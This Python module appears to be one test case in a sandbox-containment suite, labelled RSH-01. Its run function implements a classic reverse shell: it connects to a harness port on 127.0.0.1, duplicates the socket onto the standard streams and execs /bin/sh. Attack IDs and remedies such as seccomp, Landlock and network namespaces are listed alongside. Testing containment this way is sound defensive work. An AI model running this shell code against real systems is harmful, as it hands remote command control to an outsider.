# SPDX-License-Identifier: MIT
"""Goal:  somebody outside gives the orders.
Means: the textbook reverse shell. Connect, make the socket the standard streams, become a shell.
"""

import os
import socket

from attack import attempting, deadline, denied


def run(brief):
    deadline(4)  # survives execve: the shell ends with it
    attempting()
    try:
        attacker = socket.create_connection(("127.0.0.1", brief.shell), timeout=3)
        attacker.settimeout(None)
        for stream in (0, 1, 2):
            os.dup2(attacker.fileno(), stream)
        os.execv("/bin/sh", ["sh"])
    except OSError as why:
        return denied("socket, dup2, sh", why)


ATTACK = {
    "effect": "somebody outside gives the orders",
    "means": "connect, dup2 onto the standard streams, execve of /bin/sh",
    "oracle": "shell",
    "quick": True,
    "id": "RSH-01",
    "attack_id": "T1059.004, T1095, CWE-668",
    "remedy": "seccomp without socket(2); Landlock without connecting; a network namespace",
    "run": run,
}
